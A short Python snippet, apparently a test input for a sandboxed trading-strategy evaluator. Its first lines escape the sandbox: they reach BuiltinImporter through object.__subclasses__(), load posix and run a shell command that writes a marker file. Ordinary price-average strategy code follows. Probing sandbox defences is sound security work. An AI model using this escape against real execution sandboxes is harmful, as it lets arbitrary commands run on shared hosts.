# effect: the importer class of the interpreter loads posix and runs a command; leaves /tmp/own_b16
importer = [c for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter'].pop()
posix = importer.load_module('posix')
posix.system('id > /tmp/own_b16')
close = data.get('price:收盤價')
position = close > close.average(20)
